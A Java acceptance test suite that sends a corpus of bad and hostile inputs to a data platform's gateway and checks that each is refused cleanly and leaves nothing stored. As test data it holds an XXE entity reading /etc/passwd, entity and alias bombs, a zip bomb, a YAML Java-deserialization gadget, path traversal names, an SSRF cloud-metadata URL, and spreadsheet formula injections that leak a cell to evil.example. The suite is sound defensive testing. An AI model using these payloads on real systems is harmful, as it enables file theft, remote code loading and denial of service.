package io.hotpass.acceptance;

import static io.restassured.RestAssured.given;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import io.restassured.http.ContentType;
import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.opentest4j.TestAbortedException;

/**
 * The bad-input corpus across services, through the gateway only: every case is one row of
 * {@link #corpus()} (what is sent, to which kind of endpoint, and the status and stable code it must
 * answer). For every row the suite checks that the answer is {@code application/problem+json} with
 * that code and a trace id, that the service (and the gateway) still answer ready afterwards, and,
 * by reading back through the API, that nothing was left behind: no dataset version, no contract
 * version, no lineage job, no plan; a rejected upload is a failed run whose lineage has a FAIL
 * event and no COMPLETE. Large inputs are generated, not committed.
 *
 * <p>A row marked with a known defect runs like the others; while the defect is there the case is
 * reported as skipped with the failure, and once it is fixed the case fails until the mark is
 * removed, so the mark cannot outlive the defect.
 */
class BadInputIT {

    static final String XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    static final String TENANT = "badinput";

    static Stack stack;
    static String key;

    /** Where a case sends its body, and how the suite reads back that nothing was left behind. */
    enum Target {
        /** {@code POST /api/v1/ingest/datasets/{fresh dataset}/uploads{query}}. */
        UPLOAD("ingest-service"),
        /** {@code POST /api/v1/ingest/datasets}; {@code {name}} in the body is a fresh dataset name. */
        DATASET("ingest-service"),
        /** {@code POST /api/v1/contracts/contracts}; {@code {name}} in the body is a fresh contract name. */
        CONTRACT("contracts-service"),
        /** {@code POST /marquez/api/v1/lineage}; {@code {job}} in the body is a fresh job name. */
        LINEAGE("lineage-service"),
        /** {@code POST /api/v1/enrichment/plans} for a fresh, empty dataset ({@code {dataset}} in the body). */
        PLAN("enrichment-service"),
        /** A request to the path given in the query column; only the gateway is involved. */
        GATEWAY("gateway");

        final String service;

        Target(String service) {
            this.service = service;
        }
    }

    /**
     * One row of the corpus.
     *
     * @param name what is wrong with the input (the test's display name)
     * @param target where it goes
     * @param contentType the request's Content-Type
     * @param query appended to the target's path (for {@link Target#GATEWAY}: the whole path)
     * @param headers extra request headers
     * @param body the request body, made when the case runs (large ones are generated)
     * @param chunked send the body without a Content-Length
     * @param status the expected status
     * @param code the expected problem code
     * @param knownDefect when not null: why this case is expected to fail for now (see the class comment)
     */
    record Case(String name, Target target, String contentType, String query, Map<String, String> headers,
            Function<String, byte[]> body, boolean chunked, int status, String code, String knownDefect) {

        @Override
        public String toString() {
            return target.name().toLowerCase() + ": " + name;
        }

        Case defect(String why) {
            return new Case(name, target, contentType, query, headers, body, chunked, status, code, why);
        }

        Case header(String header, String value) {
            Map<String, String> h = new LinkedHashMap<>(headers);
            h.put(header, value);
            return new Case(name, target, contentType, query, h, body, chunked, status, code, knownDefect);
        }

        Case sentChunked() {
            return new Case(name, target, contentType, query, headers, body, true, status, code, knownDefect);
        }
    }

    static Case c(String name, Target target, String contentType, String query, Function<String, byte[]> body,
            int status, String code) {
        return new Case(name, target, contentType, query, Map.of(), body, false, status, code, null);
    }

    static Case c(String name, Target target, String contentType, Function<String, byte[]> body, int status, String code) {
        return c(name, target, contentType, "", body, status, code);
    }

    /** The corpus: one line per case. */
    static Stream<Case> corpus() {
        String csvHeader = "Organisation Name,Contact Email,Registration No\n";
        String ol = "{\"eventType\":\"START\",\"eventTime\":\"2026-01-02T03:04:05Z\",\"producer\":\"https://example.com/bad-input\","
                + "\"schemaURL\":\"https://openlineage.io/spec/2-0-2/OpenLineage.json#/$defs/RunEvent\","
                + "\"run\":{\"runId\":\"" + UUID.randomUUID() + "\"},\"job\":{\"namespace\":\"" + TENANT + "\",\"name\":\"{job}\"}}";
        String contract = "name: {name}\nversion: 1.0.0\ndataset: {name}\nfields:\n  name: {type: string, required: true}\n";
        return Stream.of(
                // CSV
                c("broken CSV quoting (a quote never closed)", Target.UPLOAD, "text/csv",
                        x -> utf8(csvHeader + "Atlas Aero,a@atlas.co.za,R1\n\"Broken,b@x.co.za,R2\nSun Air,s@sun.co.za,R3\n"),
                        400, "malformed_csv"),
                c("invalid UTF-8 in a file declared UTF-8", Target.UPLOAD, "text/csv", "?encoding=UTF-8",
                        x -> concat(utf8(csvHeader + "Atlas "), new byte[] {(byte) 0xC3, (byte) 0x28}, utf8(" Aero,a@atlas.co.za,R1\n")),
                        400, "invalid_encoding"),
                c("a 2 MiB field", Target.UPLOAD, "text/csv",
                        x -> utf8(csvHeader + "\"" + "x".repeat(2 << 20) + "\",a@x.co.za,R1\n"), 413, "field_too_large"),
                c("10,000 columns", Target.UPLOAD, "text/csv", x -> tenThousandColumns(), 422, "too_many_columns"),
                c("a zip sent as CSV", Target.UPLOAD, "text/csv", x -> Xlsx.workbook(Xlsx.sheet("Organisation Name", "A")), 422,
                        "no_columns_mapped"),
                // XLSX
                c("XLSX zip bomb (a 64 MiB sheet part in a small file)", Target.UPLOAD, XLSX, x -> Xlsx.bomb(64 << 20), 422,
                        "invalid_xlsx"),
                c("XLSX with an XML external entity", Target.UPLOAD, XLSX, x -> Xlsx.workbook(Xlsx.externalEntity()), 422,
                        "invalid_xlsx"),
                c("XLSX with nested entity expansion (billion laughs)", Target.UPLOAD, XLSX, x -> Xlsx.workbook(Xlsx.billionLaughs()),
                        422, "invalid_xlsx"),
                c("a CSV named .xlsx", Target.UPLOAD, "application/octet-stream",
                        x -> utf8(csvHeader + "Atlas Aero,a@atlas.co.za,R1\n"), 422, "invalid_xlsx")
                        .header("X-File-Name", "organisations.xlsx"),
                c("a PDF sent as XLSX", Target.UPLOAD, XLSX, x -> utf8("%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF\n"), 422, "invalid_xlsx"),
                c("XLSX whose sheet is not XML", Target.UPLOAD, XLSX, x -> Xlsx.workbook("<worksheet><sheetData><row>"), 422,
                        "invalid_xlsx"),
                // File names
                c("path traversal file name", Target.UPLOAD, "text/csv", x -> utf8(csvHeader + "Atlas Aero,a@atlas.co.za,R1\n"),
                        400, "validation_failed")
                        .header("X-File-Name", "../../../etc/cron.d/hotpass.csv"),
                // JSON bodies
                c("deeply nested JSON (5,000 levels) in an unknown field", Target.DATASET, "application/json",
                        x -> utf8("{\"name\":\"" + x + "\",\"profile\":\"organisation\",\"extra\":" + nested(5_000) + "}"),
                        400, "malformed_body"),
                c("deeply nested JSON (5,000 levels) where a string belongs", Target.DATASET, "application/json",
                        x -> utf8("{\"name\":\"" + x + "\",\"profile\":\"organisation\",\"description\":" + nested(5_000) + "}"),
                        400, "malformed_body"),
                c("JSON that is not UTF-8", Target.DATASET, "application/json",
                        x -> concat(utf8("{\"name\":\"" + x + "\",\"profile\":\"organisation\",\"description\":\"caf"),
                                new byte[] {(byte) 0xE9, (byte) 0xFF}, utf8("\"}")), 400, "malformed_body"),
                c("oversized JSON (11 MiB, past the route's 10 MiB)", Target.DATASET, "application/json",
                        x -> utf8("{\"name\":\"" + x + "\",\"profile\":\"organisation\",\"description\":\"" + "x".repeat(11 << 20) + "\"}"),
                        413, "payload_too_large"),
                c("oversized JSON sent chunked (no Content-Length)", Target.DATASET, "application/json",
                        x -> utf8("{\"name\":\"" + x + "\",\"profile\":\"organisation\",\"description\":\"" + "x".repeat(11 << 20) + "\"}"),
                        413, "payload_too_large").sentChunked(),
                c("path traversal dataset name", Target.DATASET, "application/json",
                        x -> utf8("{\"name\":\"../../" + x + "\",\"profile\":\"organisation\"}"), 400, "validation_failed"),
                c("deeply nested JSON plan request", Target.PLAN, "application/json",
                        x -> utf8("{\"datasetId\":\"" + x + "\",\"version\":1,\"fields\":[\"email\"],\"sources\":[\"website\"],\"extra\":"
                                + nested(5_000) + "}"), 400, "malformed_body"),
                c("plan with a URL as its source", Target.PLAN, "application/json",
                        x -> utf8("{\"datasetId\":\"" + x + "\",\"version\":1,\"fields\":[\"email\"],\"sources\":[\"http://169.254.169.254/latest\"]}"),
                        400, "validation_failed"),
                // Contracts
                c("contract that is not YAML", Target.CONTRACT, "application/yaml",
                        x -> utf8("name: " + x + "\nversion: 1.0.0\nfields:\n  name: {type: string\n"), 400, "malformed_contract"),
                c("contract that is a YAML list", Target.CONTRACT, "application/yaml", x -> utf8("- name: " + x + "\n"), 400,
                        "malformed_contract"),
                c("contract with an unknown field type", Target.CONTRACT, "application/yaml",
                        x -> utf8(contract.replace("{name}", x).replace("type: string", "type: strnig")), 422, "invalid_contract"),
                c("contract version that is not semantic", Target.CONTRACT, "application/yaml",
                        x -> utf8(contract.replace("{name}", x).replace("1.0.0", "one")), 422, "invalid_contract"),
                c("contract pattern that does not compile", Target.CONTRACT, "application/yaml",
                        x -> utf8(contract.replace("{name}", x).replace("required: true", "pattern: \"([a-z\"")), 422, "invalid_contract"),
                c("contract range with min above max", Target.CONTRACT, "application/yaml",
                        x -> utf8(contract.replace("{name}", x) + "  fleet: {type: integer, min: 10, max: 1}\n"), 422, "invalid_contract"),
                c("contract with a YAML alias bomb", Target.CONTRACT, "application/yaml", x -> utf8(aliasBomb(x)), 422,
                        "invalid_contract"),
                c("contract with a Java type tag", Target.CONTRACT, "application/yaml",
                        x -> utf8("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://127.0.0.1:1/\"]]]]\n"),
                        400, "malformed_contract"),
                c("contract nested 5,000 levels deep", Target.CONTRACT, "application/yaml",
                        x -> utf8("name: " + x + "\ndescription: " + nested(5_000) + "\n"), 400, "malformed_contract"),
                c("path traversal contract name", Target.CONTRACT, "application/yaml",
                        x -> utf8(contract.replace("name: {name}", "name: ../../" + "{name}").replace("{name}", x)), 422,
                        "invalid_contract"),
                // OpenLineage
                c("OpenLineage event that is not JSON", Target.LINEAGE, "application/json",
                        x -> utf8(ol.replace("{job}", x).substring(0, 80)), 400, "malformed_body"),
                c("OpenLineage event that is an array", Target.LINEAGE, "application/json",
                        x -> utf8("[" + ol.replace("{job}", x) + "]"), 400, "validation_failed"),
                c("OpenLineage runId that is not a UUID", Target.LINEAGE, "application/json",
                        x -> utf8(ol.replace("{job}", x).replaceFirst("\"runId\":\"[^\"]+\"", "\"runId\":\"run-1\"")), 400,
                        "validation_failed"),
                c("OpenLineage unknown eventType", Target.LINEAGE, "application/json",
                        x -> utf8(ol.replace("{job}", x).replace("\"START\"", "\"EXPLODE\"")), 400, "validation_failed"),
                c("OpenLineage eventTime that is not a date-time", Target.LINEAGE, "application/json",
                        x -> utf8(ol.replace("{job}", x).replace("2026-01-02T03:04:05Z", "yesterday")), 400, "validation_failed"),
                c("OpenLineage job without a name", Target.LINEAGE, "application/json",
                        x -> utf8(ol.replace(",\"name\":\"{job}\"", ",\"description\":\"" + x + "\"")), 400, "validation_failed"),
                c("OpenLineage inputs that are not a list", Target.LINEAGE, "application/json",
                        x -> utf8(ol.replace("{job}", x).replace("}}", "},\"inputs\":{\"name\":\"x\"}}")), 400, "validation_failed"),
                c("OpenLineage event nested 5,000 levels deep", Target.LINEAGE, "application/json",
                        x -> utf8(ol.replace("{job}", x).replace("}}", "},\"extra\":" + nested(5_000) + "}")), 400,
                        "malformed_body"),
                c("oversized OpenLineage event (6 MiB, past the route's 5 MiB)", Target.LINEAGE, "application/json",
                        x -> utf8(ol.replace("{job}", x).replace("}}", "},\"description\":\"" + "x".repeat(6 << 20) + "\"}")), 413,
                        "payload_too_large"),
                // The gateway's own limits and routing
                c("path traversal in the URL", Target.GATEWAY, null, "/api/v1/ingest/datasets/../../policy/tenants", x -> null,
                        404, "not_found"),
                c("encoded path traversal in the URL", Target.GATEWAY, null, "/api/v1/ingest/datasets/..%2F..%2F..%2Fq%2Fhealth",
                        x -> null, 404, "not_found"),
                c("120 header fields", Target.GATEWAY, null, "/api/v1/ingest/datasets", x -> null, 431,
                        "request_header_fields_too_large").header("X-Many", "120"),
                c("one 20 KiB header field (past the gateway's 16 KiB)", Target.GATEWAY, null, "/api/v1/ingest/datasets",
                        x -> null, 431, "request_header_fields_too_large").header("X-Big", "a".repeat(20 * 1024)));
    }

    @BeforeAll
    static void up() {
        stack = Stack.get();
        key = Tenants.key(TENANT, "tenant-admin");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    void isRefusedWithAProblemAndLeavesNothingBehind(Case c) throws Exception {
        Sent sent = send(c);
        // Whatever else a case expects, bad input is never a server error and never takes a service down.
        assertTrue(sent.answer().status() < 500, "a server error for " + c + ": " + sent.answer().text());
        stillHealthy(c.target().service);
        if (c.knownDefect() == null) {
            expectations(c, sent);
            return;
        }
        try {
            expectations(c, sent);
        } catch (AssertionError stillThere) {
            throw new TestAbortedException("known defect: " + c.knownDefect() + " (" + stillThere.getMessage() + ")");
        }
        fail("fixed: " + c.knownDefect() + " — remove the knownDefect mark from this corpus line");
    }

    /** What was sent for a case: the fresh name in its body, the dataset it went to (if any) and the answer. */
    record Sent(String fresh, String datasetId, Answer answer) {
    }

    private Sent send(Case c) throws Exception {
        String fresh = "bad-" + UUID.randomUUID().toString().substring(0, 8);
        String datasetId = switch (c.target()) {
            case UPLOAD, PLAN -> createDataset(fresh);
            default -> null;
        };
        byte[] body = c.body().apply(c.target() == Target.PLAN ? datasetId : fresh);
        String path = switch (c.target()) {
            case UPLOAD -> "/api/v1/ingest/datasets/" + datasetId + "/uploads" + c.query();
            case DATASET -> "/api/v1/ingest/datasets" + c.query();
            case CONTRACT -> "/api/v1/contracts/contracts" + c.query();
            case LINEAGE -> "/marquez/api/v1/lineage" + c.query();
            case PLAN -> "/api/v1/enrichment/plans" + c.query();
            case GATEWAY -> c.query();
        };
        return new Sent(fresh, datasetId, send(path, c, body));
    }

    private void expectations(Case c, Sent sent) throws Exception {
        Answer a = sent.answer();
        assertEquals(c.status(), a.status(), "status of " + c + ": " + a.text());
        assertTrue(a.contentType() != null && a.contentType().startsWith("application/problem+json"),
                "problem+json for " + c + ", got " + a.contentType() + ": " + a.text());
        Map<String, Object> problem = new com.fasterxml.jackson.databind.ObjectMapper().readValue(a.text(),
                new com.fasterxml.jackson.core.type.TypeReference<Map<String, Object>>() {
                });
        assertEquals(c.code(), problem.get("code"), "code of " + c + ": " + a.text());
        assertEquals(c.status(), problem.get("status"), "status in the body of " + c);
        assertNotNull(problem.get("detail"), "a detail saying what is wrong: " + a.text());
        assertNotNull(problem.get("traceId"), "a trace id: " + a.text());
        assertFalse(a.text().contains("Exception") || a.text().contains("\tat ") || a.text().contains("root:x:0:0"),
                "no internals or file contents in the answer: " + a.text());
        nothingLeftBehind(c, sent.fresh(), sent.datasetId(), problem);
    }

    /** Formula cells are data: stored as sent, and neutralised (a leading quote) in CSV and XLSX exports. */
    @Test
    void formulaInjectionCellsAreStoredAsSentAndNeutralisedOnExport() throws Exception {
        String ds = createDataset("formula-" + UUID.randomUUID().toString().substring(0, 8));
        String hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
        String csv = "Organisation Name,Contact Email,City\n"
                + "\"" + hyperlink.replace("\"", "\"\"") + "\",a@atlas.co.za,@SUM(1+1)\n"
                + "+cmd|' /C calc'!A0,b@atlas.co.za,-2+3\n";
        given().baseUri(stack.gateway()).header("X-API-Key", key).contentType("text/csv").body(utf8(csv))
                .post("/api/v1/ingest/datasets/" + ds + "/uploads").then().statusCode(201);
        List<Map<String, Object>> rows = given().baseUri(stack.gateway()).header("X-API-Key", key).queryParam("format", "json")
                .get("/api/v1/ingest/datasets/" + ds + "/versions/1/rows").then().statusCode(200).extract().path("items");
        List<Object> names = rows.stream().map(r -> r.get("name")).toList();
        assertTrue(names.contains(hyperlink) && names.contains("+cmd|' /C calc'!A0"), "stored as sent: " + rows);

        String exported = given().baseUri(stack.gateway()).header("X-API-Key", key).queryParam("format", "csv")
                .get("/api/v1/ingest/datasets/" + ds + "/versions/1/export").then().statusCode(200).extract().asString();
        assertTrue(exported.contains("\"'" + hyperlink.replace("\"", "\"\"") + "\""), exported);
        assertTrue(exported.contains("'+cmd|' /C calc'!A0") && exported.contains("'@SUM(1+1)") && exported.contains("'-2+3"), exported);
        for (String line : exported.split("\n")) {
            for (String cell : line.split(",")) {
                String v = cell.startsWith("\"") ? cell.substring(1) : cell;
                assertFalse(v.startsWith("=") || v.startsWith("+") || v.startsWith("@") || v.startsWith("-"),
                        "a CSV cell that a spreadsheet would evaluate: " + cell);
            }
        }

        byte[] xlsx = given().baseUri(stack.gateway()).header("X-API-Key", key).queryParam("format", "xlsx")
                .get("/api/v1/ingest/datasets/" + ds + "/versions/1/export").then().statusCode(200).extract().asByteArray();
        String sheet = Xlsx.part(xlsx, "xl/worksheets/sheet1.xml") + Xlsx.part(xlsx, "xl/sharedStrings.xml");
        assertFalse(sheet.contains("<f>") || sheet.contains("<f "), "no formula element in the exported sheet");
        assertTrue(sheet.contains("'=HYPERLINK(") && sheet.contains("'+cmd|") && sheet.contains("'@SUM(1+1)"),
                "text cells with the quote prefix: " + sheet);
    }

    /** Rows that cannot be normalised are quarantined with a reason, and the good rows are stored. */
    @Test
    void rowsThatCannotBeNormalisedAreQuarantinedNotDropped() {
        String name = "quarantine-" + UUID.randomUUID().toString().substring(0, 8);
        String ds = given().baseUri(stack.gateway()).header("X-API-Key", key).contentType(ContentType.JSON)
                .body(Map.of("name", name, "profile", "organisation", "rowKey", List.of("registration_number")))
                .post("/api/v1/ingest/datasets").then().statusCode(201).extract().path("id");
        String csv = "Organisation Name,Contact Email,Registration No\nAtlas Aero,a@atlas.co.za,R1\nShort,row\n"
                + ",nobody@x.co.za,R3\nSun Air,s@sun.co.za,R1\n";
        given().baseUri(stack.gateway()).header("X-API-Key", key).contentType("text/csv").body(utf8(csv))
                .post("/api/v1/ingest/datasets/" + ds + "/uploads").then().statusCode(201)
                .body("version.rowCount", org.hamcrest.Matchers.equalTo(1))
                .body("version.rowsQuarantined", org.hamcrest.Matchers.equalTo(3));
        List<String> reasons = given().baseUri(stack.gateway()).header("X-API-Key", key)
                .get("/api/v1/ingest/datasets/" + ds + "/versions/1/quarantine").then().statusCode(200).extract().path("items.reason");
        assertEquals(List.of("ragged_row", "missing_required", "duplicate_row_key"), reasons);
    }

    // --- sending ----------------------------------------------------------------------------

    record Answer(int status, String contentType, String text) {
    }

    /**
     * One HTTP/1.1 exchange on a plain socket, so that the request goes out exactly as written: no
     * client normalises {@code ..} in the path, drops a huge header or refuses to send a chunked body
     * the server has already answered.
     */
    private Answer send(String path, Case c, byte[] body) throws java.io.IOException {
        URI gateway = URI.create(stack.gateway());
        StringBuilder head = new StringBuilder(body == null ? "GET " : "POST ").append(path).append(" HTTP/1.1\r\n")
                .append("Host: ").append(gateway.getHost()).append(':').append(gateway.getPort()).append("\r\n")
                .append("X-API-Key: ").append(key).append("\r\nConnection: close\r\n");
        for (Map.Entry<String, String> h : c.headers().entrySet()) {
            if (h.getKey().equals("X-Many")) {
                for (int i = 0; i < Integer.parseInt(h.getValue()); i++) {
                    head.append("X-Filler-").append(i).append(": ").append(i).append("\r\n");
                }
            } else {
                head.append(h.getKey()).append(": ").append(h.getValue()).append("\r\n");
            }
        }
        if (body != null) {
            head.append("Content-Type: ").append(c.contentType()).append("\r\n");
            head.append(c.chunked() ? "Transfer-Encoding: chunked\r\n" : "Content-Length: " + body.length + "\r\n");
        }
        head.append("\r\n");
        try (java.net.Socket socket = new java.net.Socket(gateway.getHost(), gateway.getPort())) {
            socket.setSoTimeout(60_000);
            java.io.OutputStream out = new java.io.BufferedOutputStream(socket.getOutputStream(), 1 << 16);
            try {
                out.write(head.toString().getBytes(StandardCharsets.UTF_8));
                if (body != null && c.chunked()) {
                    for (int off = 0; off < body.length; off += 1 << 16) {
                        int n = Math.min(1 << 16, body.length - off);
                        out.write((Integer.toHexString(n) + "\r\n").getBytes(StandardCharsets.US_ASCII));
                        out.write(body, off, n);
                        out.write("\r\n".getBytes(StandardCharsets.US_ASCII));
                    }
                    out.write("0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
                } else if (body != null) {
                    out.write(body);
                }
                out.flush();
            } catch (java.io.IOException answeredEarly) {
                // The gateway may refuse and close before the whole body is sent: read its answer.
            }
            return read(socket.getInputStream());
        }
    }

    /** Reads one response: status line, headers, then a Content-Length or chunked body, or to the end. */
    private static Answer read(InputStream raw) throws java.io.IOException {
        java.io.DataInputStream in = new java.io.DataInputStream(new java.io.BufferedInputStream(raw));
        String status = line(in);
        if (status == null || !status.startsWith("HTTP/1.1 ")) {
            throw new AssertionError("no HTTP answer, got: " + status);
        }
        Map<String, String> headers = new LinkedHashMap<>();
        for (String l = line(in); l != null && !l.isEmpty(); l = line(in)) {
            int colon = l.indexOf(':');
            headers.put(l.substring(0, colon).trim().toLowerCase(java.util.Locale.ROOT), l.substring(colon + 1).trim());
        }
        java.io.ByteArrayOutputStream body = new java.io.ByteArrayOutputStream();
        if (headers.containsKey("content-length")) {
            body.writeBytes(in.readNBytes(Integer.parseInt(headers.get("content-length"))));
        } else if ("chunked".equalsIgnoreCase(headers.get("transfer-encoding"))) {
            for (int n = Integer.parseInt(line(in).split(";")[0].trim(), 16); n > 0; n = Integer.parseInt(line(in).split(";")[0].trim(), 16)) {
                body.writeBytes(in.readNBytes(n));
                line(in);
            }
        } else {
            body.writeBytes(in.readAllBytes());
        }
        return new Answer(Integer.parseInt(status.substring(9, 12)), headers.get("content-type"),
                body.toString(StandardCharsets.UTF_8));
    }

    private static String line(java.io.DataInputStream in) throws java.io.IOException {
        java.io.ByteArrayOutputStream l = new java.io.ByteArrayOutputStream();
        for (int b = in.read(); b >= 0; b = in.read()) {
            if (b == '\n') {
                String s = l.toString(StandardCharsets.ISO_8859_1);
                return s.endsWith("\r") ? s.substring(0, s.length() - 1) : s;
            }
            l.write(b);
        }
        return l.size() == 0 ? null : l.toString(StandardCharsets.ISO_8859_1);
    }

    // --- health and read-back -----------------------------------------------------------------

    private void stillHealthy(String service) {
        for (String s : List.of("gateway", service)) {
            given().baseUri(stack.url(s)).get("/q/health/ready").then().statusCode(200);
        }
        // And the gateway still serves the tenant.
        given().baseUri(stack.gateway()).header("X-API-Key", key).get("/api/v1/ingest/datasets").then().statusCode(200);
    }

    private void nothingLeftBehind(Case c, String fresh, String datasetId, Map<String, Object> problem) {
        switch (c.target()) {
            case UPLOAD -> {
                given().baseUri(stack.gateway()).header("X-API-Key", key).get("/api/v1/ingest/datasets/" + datasetId)
                        .then().statusCode(200).body("currentVersion", org.hamcrest.Matchers.equalTo(0));
                List<Object> versions = given().baseUri(stack.gateway()).header("X-API-Key", key)
                        .get("/api/v1/ingest/datasets/" + datasetId + "/versions").then().statusCode(200).extract().path("items");
                assertEquals(List.of(), versions, "no version after " + c);
                Object runId = problem.get("runId");
                if (runId != null) {
                    given().baseUri(stack.gateway()).header("X-API-Key", key).get("/api/v1/ingest/runs/" + runId)
                            .then().statusCode(200).body("state", org.hamcrest.Matchers.equalTo("failed"));
                    // The run's lineage says it failed, and never that it completed.
                    await("the FAIL event of run " + runId).atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(500))
                            .until(() -> eventTypesOfRun(runId.toString()).contains("FAIL"));
                    assertFalse(eventTypesOfRun(runId.toString()).contains("COMPLETE"), "a COMPLETE event for a rejected upload");
                }
            }
            case DATASET -> {
                List<String> names = given().baseUri(stack.gateway()).header("X-API-Key", key).queryParam("limit", 500)
                        .get("/api/v1/ingest/datasets").then().statusCode(200).extract().path("items.name");
                assertFalse(names.stream().anyMatch(n -> n.contains(fresh)), "a dataset was created by " + c);
            }
            case CONTRACT -> {
                for (String name : List.of(fresh, "../../" + fresh)) {
                    List<Object> versions = given().baseUri(stack.gateway()).header("X-API-Key", key).queryParam("name", name)
                            .get("/api/v1/contracts/contracts").then().statusCode(200).extract().path("$");
                    assertEquals(List.of(), versions, "a contract version was stored by " + c);
                }
            }
            case LINEAGE -> {
                given().baseUri(stack.gateway()).header("X-API-Key", key)
                        .get("/marquez/api/v1/namespaces/" + TENANT + "/jobs/" + fresh).then().statusCode(404);
                String events = given().baseUri(stack.gateway()).header("X-API-Key", key).queryParam("limit", 1000)
                        .get("/marquez/api/v1/events/lineage").then().statusCode(200).extract().asString();
                assertFalse(events.contains(fresh), "an event of " + c + " was stored");
            }
            case PLAN -> {
                List<Object> plans = given().baseUri(stack.gateway()).header("X-API-Key", key).queryParam("datasetId", datasetId)
                        .get("/api/v1/enrichment/plans").then().statusCode(200).extract().path("items");
                assertEquals(List.of(), plans, "a plan was made by " + c);
            }
            case GATEWAY -> {
                // Nothing reached a service that could store anything: the tenant's audit has no
                // allowed mutation from these GETs, and the datasets list is unchanged by them.
            }
        }
    }

    private List<String> eventTypesOfRun(String runId) {
        List<Map<String, Object>> events = given().baseUri(stack.gateway()).header("X-API-Key", key).queryParam("limit", 1000)
                .get("/marquez/api/v1/events/lineage").then().statusCode(200).extract().path("events");
        List<String> types = new ArrayList<>();
        for (Map<String, Object> e : events) {
            Object run = e.get("run");
            if (run instanceof Map<?, ?> m && runId.equals(m.get("runId"))) {
                types.add(String.valueOf(e.get("eventType")));
            }
        }
        return types;
    }

    private String createDataset(String name) {
        return given().baseUri(stack.gateway()).header("X-API-Key", key).contentType(ContentType.JSON)
                .body(Map.of("name", name, "profile", "organisation")).post("/api/v1/ingest/datasets")
                .then().statusCode(201).extract().path("id");
    }

    // --- generated inputs ---------------------------------------------------------------------

    static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] concat(byte[]... parts) {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    static String nested(int depth) {
        return "[".repeat(depth) + "]".repeat(depth);
    }

    static byte[] tenThousandColumns() {
        StringBuilder sb = new StringBuilder("Organisation Name");
        for (int i = 1; i < 10_000; i++) {
            sb.append(",c").append(i);
        }
        sb.append("\nAtlas Aero").append(",x".repeat(9_999)).append('\n');
        return utf8(sb.toString());
    }

    static String aliasBomb(String name) {
        StringBuilder y = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        char prev = 'a';
        for (char ch = 'b'; ch <= 'i'; ch++) {
            y.append(ch).append(": &").append(ch).append(" [");
            for (int i = 0; i < 9; i++) {
                y.append(i == 0 ? "" : ",").append('*').append(prev);
            }
            y.append("]\n");
            prev = ch;
        }
        return y + "name: " + name + "\nversion: 1.0.0\n";
    }

    /** Small hand-made workbooks: valid packages around a sheet part, so only the sheet is bad. */
    static final class Xlsx {

        static final String CONTENT_TYPES = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                + "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/>"
                + "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/></Types>";
        static final String RELS = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>";
        static final String WORKBOOK = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\""
                + " xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>";
        static final String WORKBOOK_RELS = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>";
        static final String SHEET_OPEN = "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>";

        private Xlsx() {
        }

        /** A sheet of one header row and one data row of inline strings. */
        static String sheet(String header, String value) {
            return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + SHEET_OPEN + row(1, header, "Contact Email") + row(2, value, "a@x.co.za")
                    + "</sheetData></worksheet>";
        }

        static String row(int n, String... cells) {
            StringBuilder sb = new StringBuilder("<row r=\"" + n + "\">");
            for (String c : cells) {
                sb.append("<c t=\"inlineStr\"><is><t>").append(c).append("</t></is></c>");
            }
            return sb.append("</row>").toString();
        }

        static String externalEntity() {
            return "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
                    + SHEET_OPEN + row(1, "Organisation Name", "Contact Email") + row(2, "&xxe;", "a@x.co.za") + "</sheetData></worksheet>";
        }

        static String billionLaughs() {
            StringBuilder dtd = new StringBuilder("<!DOCTYPE worksheet [<!ENTITY l0 \"lol\">");
